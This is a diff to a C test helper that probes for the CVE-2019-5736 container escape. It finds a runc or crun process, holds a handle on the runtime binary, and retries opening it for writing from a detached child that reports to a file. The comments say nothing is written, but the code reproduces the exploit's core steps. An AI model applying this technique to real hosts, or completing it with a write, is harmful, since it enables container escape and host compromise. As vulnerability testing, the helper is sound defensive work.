@@ -275,8 +275,10 @@ static int do_release_agent(int argc, char **argv) {
 /* CVE-2019-5736 as the exploit does it: catch a process of the runtime (runc or crun exec'ing
  * into the guest), hold an O_PATH handle on its binary, and once that process is gone reopen the
  * handle for writing, which no longer fails with ETXTBSY. Nothing is written. It ends at the first
- * runtime process it could try, or after SECONDS. With a pid, that process is the target and the
- * helper ends it itself (a control run, where host processes are in reach). */
+ * runtime process it could try, or after SECONDS. With a pid (not 0), that process is the target
+ * and the helper ends it itself (a control run, where host processes are in reach). With a RESULT
+ * file, the retries go on in a child after this exec session, and their answer goes to the file.
+ * Usage: exe SECONDS [PID [RESULT]] */
 /* the text of /proc/PID/NAME, or -1 */
 static ssize_t read_proc(pid_t pid, const char *name, char *buf, size_t size) {
   char path[64];
@@ -304,6 +306,7 @@ static int ended(pid_t pid) {
 static int do_exe(int argc, char **argv) {
   int seconds = argc > 2 ? atoi(argv[2]) : 3;
   pid_t victim = argc > 3 ? atoi(argv[3]) : 0;
+  const char *result = argc > 4 ? argv[4] : NULL;
   time_t end = time(NULL) + seconds;
   while (time(NULL) < end) {
     DIR *d = opendir("/proc");
@@ -330,9 +333,20 @@ static int do_exe(int argc, char **argv) {
     snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
     char what[160] = {0}, detail[256];
     if (readlink(path, what, sizeof what - 1) < 0) strcpy(what, "?");
-    /* as the exploit does: retry while other runs of the runtime keep the binary busy */
+    /* the runtime that runs this helper keeps its binary busy until we exit: as the exploit does,
+     * a child outlives this exec session, retries, and leaves its answer in a file */
+    if (result) {
+      pid_t child = fork();
+      if (child > 0) {
+        printf("HELD %s\n", what);
+        return 0;
+      }
+      setsid();
+      if (!freopen(result, "w", stdout)) _exit(1);
+      setvbuf(stdout, NULL, _IONBF, 0);
+    }
     int w;
-    time_t retry_end = time(NULL) + 10;
+    time_t retry_end = time(NULL) + 30;
     while ((w = open(path, O_WRONLY)) < 0 && errno == ETXTBSY && time(NULL) < retry_end) usleep(1000);
     snprintf(detail, sizeof detail, "reopening the runtime's binary (%s) for writing", what);
     if (w < 0) return blocked(detail);
